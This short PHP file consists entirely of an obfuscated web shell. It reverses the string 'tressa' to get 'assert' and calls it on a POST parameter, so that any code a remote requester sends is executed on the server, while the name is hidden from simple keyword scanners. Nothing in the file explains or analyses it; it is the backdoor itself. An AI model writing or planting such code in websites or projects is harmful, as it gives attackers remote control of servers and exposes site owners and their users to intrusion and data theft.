<?php
$f = strrev('tressa');
$f(@$_POST[1]);
